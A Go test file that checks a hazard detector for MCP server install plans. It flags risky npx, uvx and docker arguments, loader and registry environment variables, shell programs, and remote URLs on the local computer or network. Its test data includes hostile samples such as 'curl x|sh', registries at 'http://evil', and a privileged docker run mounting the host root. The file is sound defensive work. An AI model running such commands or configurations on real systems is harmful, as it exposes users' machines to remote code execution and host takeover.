package catalog

import (
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

func TestHazards(t *testing.T) {
	home := t.TempDir()
	t.Setenv("HOME", home)
	t.Setenv("USERPROFILE", home)
	tests := []struct {
		name string
		plan InstallPlan
		want []string // keys
	}{
		{"plain npx", InstallPlan{Runtime: RuntimeNPX, Command: "npx", Args: []string{"-y", "pkg@1.0.0"}}, nil},
		{"npx registry, = form", InstallPlan{Runtime: RuntimeNPX, Command: "npx", Args: []string{"-y", "--registry=http://127.0.0.1:9/", "pkg@1.0.0"}}, []string{"arg:--registry"}},
		{"npx registry, space form, upper case", InstallPlan{Runtime: RuntimeNPX, Command: "npx", Args: []string{"-y", "--REGISTRY", "http://evil", "pkg@1.0.0"}}, []string{"arg:--registry"}},
		{"npx userconfig and call", InstallPlan{Runtime: RuntimeNPX, Command: "npx", Args: []string{"--userconfig", "/tmp/rc", "-c", "curl x|sh", "pkg@1"}}, []string{"arg:--userconfig", "arg:--call"}},
		{"npx extra package", InstallPlan{Runtime: RuntimeNPX, Command: "npx", Args: []string{"-p", "evil@1", "pkg@1"}, spec: "pkg@1"}, []string{"arg:--package"}},
		{"npx own package is fine", InstallPlan{Runtime: RuntimeNPX, Command: "npx", Args: []string{"-y", "--package=pkg@1", "pkg-bin"}, spec: "pkg@1"}, nil},
		{"npx shell as the program", InstallPlan{Runtime: RuntimeNPX, Command: "npx", Args: []string{"-y", "--package=pkg@1", "sh"}, spec: "pkg@1"}, []string{"command:sh"}},
		{"uvx index-url, -i, extra index, with", InstallPlan{Runtime: RuntimeUVX, Command: "uvx", Args: []string{"-i", "http://evil/simple", "--extra-index-url=http://x", "--with", "evil", "pkg@1"}},
			[]string{"arg:--index-url", "arg:--extra-index-url", "arg:--with"}},
		{"uvx stuck short value", InstallPlan{Runtime: RuntimeUVX, Command: "uvx", Args: []string{"-ihttp://evil/simple", "pkg@1"}}, []string{"arg:--index-url"}},
		{"uvx from elsewhere", InstallPlan{Runtime: RuntimeUVX, Command: "uvx", Args: []string{"--from", "git+https://evil/x", "tool"}, spec: "pkg==1"}, []string{"arg:--from"}},
		{"uvx own from is fine", InstallPlan{Runtime: RuntimeUVX, Command: "uvx", Args: []string{"--from", "pkg==1", "tool"}, spec: "pkg==1"}, nil},
		{"uvx python -c as the program", InstallPlan{Runtime: RuntimeUVX, Command: "uvx", Args: []string{"--from", "pkg==1", "python3", "-c", "import os"}, spec: "pkg==1"}, []string{"command:python"}},
		{"docker hostile run", InstallPlan{Runtime: RuntimeDocker, Command: "docker", Args: []string{"run", "-i", "--rm",
			"-v", "/:/host", "--pid", "host", "--network=host", "--cap-add", "ALL", "--security-opt", "seccomp=unconfined",
			"--privileged", "--device=/dev/sda", "--userns=HOST", "img:1"}},
			[]string{"arg:--volume", "arg:--pid", "arg:--network", "arg:--cap-add", "arg:--security-opt", "arg:--privileged", "arg:--device", "arg:--userns"}},
		{"docker socket mount", InstallPlan{Runtime: RuntimeDocker, Command: "docker", Args: []string{"run", "--mount", "type=bind,source=/var/run/docker.sock,target=/s", "img:1"}}, []string{"arg:--mount"}},
		{"docker home mount, stuck value", InstallPlan{Runtime: RuntimeDocker, Command: "docker", Args: []string{"run", "-v" + home + ":/h", "img:1"}}, []string{"arg:--volume"}},
		{"docker Windows drive", InstallPlan{Runtime: RuntimeDocker, Command: "docker", Args: []string{"run", "-v", `C:\:/host`, "img:1"}}, []string{"arg:--volume"}},
		{"docker Windows project is fine", InstallPlan{Runtime: RuntimeDocker, Command: "docker", Args: []string{"run", "-v", `C:\Users\me\proj:/p`, "img:1"}}, nil},
		{"docker project mount is fine", InstallPlan{Runtime: RuntimeDocker, Command: "docker", Args: []string{"run", "-v", home + "/project:/p", "--network", "bridge", "img:1"}}, nil},
		{"docker -e of a loader variable", InstallPlan{Runtime: RuntimeDocker, Command: "docker", Args: []string{"run", "-e", "LD_PRELOAD", "img:1"}}, []string{"env:LD_PRELOAD"}},
		{"environment, any case, secrets by name", InstallPlan{Runtime: RuntimeNPX, Command: "npx", Args: []string{"-y", "pkg@1"},
			Env:     map[string]string{"node_options": "--require /tmp/x.js", "DOCKER_HOST": "tcp://evil:2375", "LD_PRELOAD": "/tmp/x.so", "DYLD_INSERT_LIBRARIES": "x", "Path": "/tmp", "API_URL": "https://ok", "ENV": "production"},
			Secrets: []Secret{{Env: "PYTHONPATH", Value: "s3cret"}}},
			[]string{"env:DOCKER_HOST", "env:DYLD_INSERT_LIBRARIES", "env:LD_PRELOAD", "env:PATH", "env:NODE_OPTIONS", "env:PYTHONPATH"}},
		{"npm config variable", InstallPlan{Runtime: RuntimeNPX, Command: "npx", Env: map[string]string{"npm_config_registry": "http://evil"}}, []string{"env:NPM_CONFIG_REGISTRY"}},
		{"shell commands", InstallPlan{Command: "/bin/bash", Args: []string{"-c", "x"}}, []string{"command:bash"}},
		{"windows shell", InstallPlan{Command: `C:\Windows\System32\WindowsPowerShell\v1.0\PowerShell.EXE`}, []string{"command:powershell"}},
		{"node -e", InstallPlan{Command: "node", Args: []string{"-e", "require('x')"}}, []string{"command:node"}},
		{"node with a file is fine", InstallPlan{Command: "node", Args: []string{"/srv/bin.js"}}, nil},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			hs := Hazards(tt.plan)
			if diff := cmp.Diff(tt.want, nilIfEmpty(HazardKeys(hs))); diff != "" {
				t.Fatalf("keys (-want +got):\n%s\n%+v", diff, hs)
			}
			for _, h := range hs {
				if h.Reason == "" || h.Item == "" {
					t.Errorf("%s has no reason or item: %+v", h.Key, h)
				}
				if h.Item == "s3cret" || slices.Contains([]string{h.Item, h.Reason}, "s3cret") {
					t.Errorf("a secret value reached the hazard: %+v", h)
				}
			}
		})
	}
}

func nilIfEmpty(s []string) []string {
	if len(s) == 0 {
		return nil
	}
	return s
}

// Arguments after the package go to the server, not the runtime: a server's own "--with"
// or "-v" is not a hazard, while the same flag before the package is.
func TestHazardsOnlyInTheRuntimesArguments(t *testing.T) {
	doc := `{"name":"io.example/tool","description":"d","version":"1.0.0","packages":[{"registryType":"pypi","identifier":"tool","version":"1.0.0","transport":{"type":"stdio"},
	  "runtimeArguments":[{"type":"named","name":"--index-url","value":"http://127.0.0.1:9/simple"}],
	  "packageArguments":[{"type":"named","name":"--with","value":"x"}]}]}`
	p, err := Plan(mustParse(t, doc), nil)
	if err != nil {
		t.Fatal(err)
	}
	if got := HazardKeys(Hazards(p)); !slices.Equal(got, []string{"arg:--index-url"}) {
		t.Fatalf("hazards = %v for %v, want only the runtime's --index-url", got, p.Args)
	}
}

// The built-in catalog is reviewed: the only hazard it carries on purpose is sqlite's pinned
// extra library. A new one must be added here knowingly.
func TestBuiltInHazards(t *testing.T) {
	entries, err := LoadEmbedded()
	if err != nil {
		t.Fatal(err)
	}
	want := map[string][]string{"sqlite": {"arg:--with"}}
	for _, e := range entries {
		qs, err := Questions(e)
		if err != nil {
			t.Fatal(err)
		}
		answers := map[string]string{}
		for _, q := range qs {
			if q.Required && q.Default == "" {
				answers[q.Key] = exampleAnswer(t, q)
			}
		}
		p, err := Plan(e, answers)
		if err != nil {
			t.Fatalf("%s: %v", e.ID(), err)
		}
		if diff := cmp.Diff(want[e.ID()], nilIfEmpty(HazardKeys(Hazards(p)))); diff != "" {
			t.Errorf("%s hazards (-want +got):\n%s", e.ID(), diff)
		}
	}
}

func exampleAnswer(t *testing.T, q Question) string {
	switch {
	case len(q.Choices) > 0:
		return q.Choices[0]
	case q.Format == FormatFilepath:
		return t.TempDir()
	case q.Format == FormatNumber:
		return "1"
	case q.Format == FormatBoolean:
		return "true"
	}
	return "x"
}

// A registry entry whose remote server is on this computer or the local network needs the
// person's yes; one on the internet does not.
func TestRemoteHazards(t *testing.T) {
	tests := []struct {
		url  string
		want []string
	}{
		{"https://mcp.example.com/mcp", nil},
		{"https://93.184.216.34/mcp", nil},
		{"http://localhost:8080/mcp", []string{HazardThisComputer}},
		{"http://LOCALHOST./mcp", []string{HazardThisComputer}},
		{"http://127.0.0.1:3000/mcp", []string{HazardThisComputer}},
		{"http://127.9.9.9/mcp", []string{HazardThisComputer}},
		{"http://[::1]:3000/mcp", []string{HazardThisComputer}},
		{"https://[::ffff:127.0.0.1]/mcp", []string{HazardThisComputer}},
		{"https://0.0.0.0/mcp", []string{HazardThisComputer}},
		{"https://admin.localhost/mcp", []string{HazardThisComputer}},
		{"https://10.0.0.5/mcp", []string{HazardLocalNetwork}},
		{"https://192.168.1.1/mcp", []string{HazardLocalNetwork}},
		{"https://172.16.0.1/mcp", []string{HazardLocalNetwork}},
		{"https://100.64.1.1/mcp", []string{HazardLocalNetwork}},
		{"https://169.254.169.254/latest", []string{HazardLocalNetwork}},
		{"https://[fd00::1]/mcp", []string{HazardLocalNetwork}},
		{"https://[fe80::1]/mcp", []string{HazardLocalNetwork}},
		{"https://printer.local/mcp", []string{HazardLocalNetwork}},
		{"https://db.corp.internal/mcp", []string{HazardLocalNetwork}},
		{"https://router/mcp", []string{HazardLocalNetwork}},
	}
	for _, tt := range tests {
		hs := Hazards(InstallPlan{Remote: &RemotePlan{Transport: "streamable-http", URL: tt.url}})
		if diff := cmp.Diff(tt.want, nilIfEmpty(HazardKeys(hs))); diff != "" {
			t.Errorf("%s: keys (-want +got):\n%s", tt.url, diff)
		}
		for _, h := range hs {
			if h.Item != tt.url || !strings.HasPrefix(h.Reason, "It sends your AI apps' requests to ") || strings.Count(h.Reason, ".") != 1 {
				t.Errorf("%s: %+v is not the address and one plain sentence", tt.url, h)
			}
		}
	}
}
